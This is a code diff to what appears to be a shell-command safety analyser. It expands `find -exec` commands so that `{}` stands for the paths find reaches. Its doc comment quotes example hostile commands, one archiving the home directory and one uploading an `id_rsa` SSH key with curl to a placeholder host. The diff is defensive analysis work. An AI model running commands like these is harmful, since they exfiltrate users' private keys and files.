@@ -13,6 +13,7 @@ import {
   computedScript,
   deepTail,
   expandWord,
+  findReach,
   hiddenTails,
   homeMoved,
   isStringArray,
@@ -600,14 +601,23 @@ function commandWord(word: string, vars: ReadonlyMap<string, string>): string {
   return parts.length > 1 ? `${name} ${parts.slice(1).join(' ')}` : name;
 }
 
-/** The commands of `find ... -exec CMD ... ;` as scripts. */
+/**
+ * The commands of `find ... -exec CMD ... ;` as scripts, `{}` read as what find finds (shell.ts findReach:
+ * `find ~ -exec tar rf x {} +` packs the home, `find ~ -name id_rsa -exec curl -T {} h` sends a key).
+ */
 function execScripts(words: readonly string[]): string[] {
   const out: string[] = [];
+  let reach: string[] | undefined;
   for (let j = 1; j < words.length; j++) {
     if (!isExecFlag(words[j] as string)) continue;
     let end = j + 1;
     while (end < words.length && words[end] !== ';' && words[end] !== '+') end++;
-    if (end > j + 1) out.push(quoteWords(words.slice(j + 1, end)));
+    const inner = words.slice(j + 1, end);
+    if (inner.length > 0) out.push(quoteWords(inner));
+    if (inner.includes('{}')) {
+      reach ??= findReach(words);
+      for (const r of reach) out.push(quoteWords(inner.map((x) => (x === '{}' ? r : x))));
+    }
     j = end;
   }
   return out;
